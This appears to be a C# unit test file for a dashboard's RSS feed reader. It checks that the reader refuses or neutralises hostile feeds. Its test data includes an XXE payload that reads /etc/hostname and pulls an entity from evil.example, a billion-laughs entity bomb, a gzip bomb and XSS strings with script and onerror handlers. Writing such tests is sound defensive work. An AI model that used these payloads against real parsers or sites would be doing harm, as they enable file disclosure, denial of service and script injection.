using System.Text;
using Dashboard.Domain.Articles;
using Dashboard.Ingest.Feeds;

namespace Dashboard.Tests.Ingest.Feeds;

public class HostileFeedTests
{
    [Fact]
    public void External_entity_is_never_resolved()
    {
        var item = Assert.Single(FeedSample.Read("<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/hostname'><!ENTITY % p SYSTEM 'https://evil.example/p'> %p;]>" +
            "<rss><channel><item><guid>1</guid><title>a&x;b</title></item></channel></rss>").Items);
        Assert.Equal("a&x;b", item.Title);
    }

    [Fact]
    public void Entity_bomb_stays_small()
    {
        var bomb = new StringBuilder("<!DOCTYPE rss [<!ENTITY a0 'haha'>");
        for (var i = 1; i < 30; i++) bomb.Append($"<!ENTITY a{i} '{string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))}'>");
        bomb.Append("]><rss><channel><item><guid>1</guid><title>&a29; and &a0;</title></item></channel></rss>");
        Assert.Equal("&a29; and haha", Assert.Single(FeedSample.Read(bomb.ToString()).Items).Title);
    }

    [Fact]
    public void Entity_that_is_used_without_end_stops_growing()
    {
        var text = $"<!DOCTYPE rss [<!ENTITY a '{new string('x', 250)}'>]><rss><channel><item><guid>1</guid><title>{string.Concat(Enumerable.Repeat("&a;", 200_000))}</title></item></channel></rss>";
        Assert.InRange(Assert.Single(FeedSample.Read(text).Items).Title!.Length, 1, 250 * 10_001);
    }

    [Theory]
    [InlineData("<a>")]
    [InlineData("<a b='")]
    [InlineData("<a<a")]
    [InlineData("<![CDATA[")]
    [InlineData("<!--")]
    [InlineData("<item>")]
    [InlineData("<item><title>")]
    [InlineData("&a")]
    [InlineData("</x>")]
    [InlineData("<x:y z:a='1'/>")]
    [InlineData("<!DOCTYPE [<!ENTITY>")]
    public void Ten_megabytes_of_one_trick_are_read_or_refused(string trick)
    {
        var text = new StringBuilder("<rss><channel>");
        while (text.Length < FeedReader.MostBytes - trick.Length) text.Append(trick);
        try
        {
            Assert.NotNull(FeedReader.Read(Encoding.UTF8.GetBytes(text.ToString()), null, FeedSample.Address));
        }
        catch (UnreadableException refused)
        {
            Assert.NotEmpty(refused.Message);
        }
    }

    [Theory]
    [InlineData("&lt;b&gt;")]
    [InlineData("&lt;a href=x&gt;")]
    [InlineData("&lt;table&gt;")]
    [InlineData("&lt;a ")]
    [InlineData(" href=")]
    [InlineData("\n ")]
    public void Megabytes_of_one_trick_in_a_text_are_read(string trick)
    {
        var text = string.Concat(Enumerable.Repeat(trick, 8_000_000 / trick.Length));
        var item = Assert.Single(FeedSample.Read(FeedSample.Rss($"<item><guid>1</guid><title>&lt;b&gt;{trick}</title><description>{text}x</description></item>")).Items);
        Assert.Equal("1", item.Id);
    }

    [Fact]
    public void Items_without_end_are_read_as_far_as_a_feed_goes()
    {
        var feed = FeedSample.Read("<rss><channel>" + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"<item><guid>{i}</guid></item>")) + "</channel></rss>");
        Assert.Equal(5_000, feed.Items.Count);
        Assert.Contains(feed.Faults, fault => fault.Contains("5,000", StringComparison.Ordinal));
    }

    [Fact]
    public void Nesting_without_end_is_refused_in_words() =>
        Assert.Contains("nested", Assert.Throws<UnreadableException>(() => FeedSample.Read("<rss>" + string.Concat(Enumerable.Repeat("<a>", 1000)) + string.Concat(Enumerable.Repeat("</a>", 1000)) + "</rss>")).Message, StringComparison.Ordinal);

    [Fact]
    public void More_than_ten_megabytes_are_refused() =>
        Assert.Contains("10 MB", Assert.Throws<UnreadableException>(() => FeedReader.Read(new byte[FeedReader.MostBytes + 1], null, FeedSample.Address)).Message, StringComparison.Ordinal);

    [Fact]
    public void Gzip_bomb_is_refused()
    {
        using var packed = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(packed, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        {
            for (var i = 0; i < 40; i++) gzip.Write(new byte[1024 * 1024]);
        }

        Assert.Contains("10 MB", Assert.Throws<UnreadableException>(() => FeedReader.Read(packed.ToArray(), null, FeedSample.Address)).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Bytes_without_sense_are_refused_in_words()
    {
        var random = new Random(7);
        for (var i = 0; i < 50; i++)
        {
            var bytes = new byte[random.Next(1, 20_000)];
            random.NextBytes(bytes);
            Assert.NotEmpty(Assert.Throws<UnreadableException>(() => FeedReader.Read(bytes, null, FeedSample.Address)).Message);
        }
    }

    [Theory]
    [InlineData("<rss><channel><item><title>Tom & Jerry</title><link>https://news.example/?a=1&b=2</link></item></channel></rss>", "Tom & Jerry")]
    [InlineData("<rss><channel><item><title>One</title><description><p>a<br>b</description></item><item><title>Two</title></item></channel></rss>", "One|Two")]
    [InlineData("<rss><channel><item><title>One<item><title>Two</title></item></channel></rss>", "One|Two")]
    [InlineData("<rss><channel><item><title>One</title></item><item><title>Cut off he", "One")]
    [InlineData("<rss><channel><item foo=bar foo='again' x><title>One</title></item></channel></rss>", "One")]
    [InlineData("<rss><channel><item><title>One</title><unknown:thing>x</unknown:thing><dc:creator>Ada</dc:creator></item></channel></rss>", "One")]
    [InlineData("<b>Warning</b>: in line 3<br>\n<?xml version='1.0'?><rss><channel><item><title>One</title></item></channel></rss>", "One")]
    [InlineData("\n\n<?xml version='1.0'?><rss><channel><item><title>One</title></item></channel></rss><!-- served by cache --> trailing", "One")]
    [InlineData("<?xml version='1.1'?><rss><channel><item><title>One</title></item></channel></rss>", "One")]
    [InlineData("<rss><channel><item><title>One &lt; Two</title><description>a < b</description></item></channel></rss>", "One < Two")]
    [InlineData("<rss><channel><item><title>One</Title></item></channel></rss>", "One")]
    public void Broken_xml_is_mended(string text, string titles) => Assert.Equal(titles, string.Join('|', FeedSample.Read(text).Items.Select(item => item.Title)));

    [Fact]
    public void Mended_feed_says_so()
    {
        var feed = FeedSample.Read("<rss><channel><item><title>Tom & Jerry</title></item><item><title>Cut");
        Assert.Contains(feed.Faults, fault => fault.Contains("& stands for itself", StringComparison.Ordinal));
        Assert.Contains("It ends in the middle.", feed.Faults);
    }

    [Fact]
    public void Undeclared_prefix_means_what_it_usually_means() =>
        Assert.Equal("Ada Quay", Assert.Single(FeedSample.Read("<rss><channel><item><guid>1</guid><dc:creator>Ada Quay</dc:creator></item></channel></rss>").Items).Author);

    [Fact]
    public void Script_in_a_title_leaves_no_markup()
    {
        var item = Assert.Single(FeedSample.Read(FeedSample.Rss("<item><guid>1</guid><title>&lt;script&gt;alert(1)&lt;/script&gt;Storm &lt;img src=x onerror=alert(1)&gt;</title></item>")).Items);
        Assert.Equal("Storm", item.Title);
    }
}
